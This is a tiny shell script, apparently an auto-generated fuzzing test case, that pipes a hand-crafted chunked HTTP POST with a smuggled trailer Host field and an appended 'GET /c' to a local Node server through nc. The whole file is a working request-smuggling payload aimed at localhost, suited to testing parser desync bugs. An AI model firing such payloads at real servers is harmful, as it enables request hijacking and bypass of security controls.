#!/bin/sh
# desync/trailer-field-prohibited/smuggled-request via header.name-case+stream.concatenate+stream.split against node
printf 'POST / HTTP/1.1\r\nhost:127.0.0.1:58937\r\nTransfer-Encoding:chunked\r\n\r\n0\r\nHost: \r\n\r\nGET /c\r\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
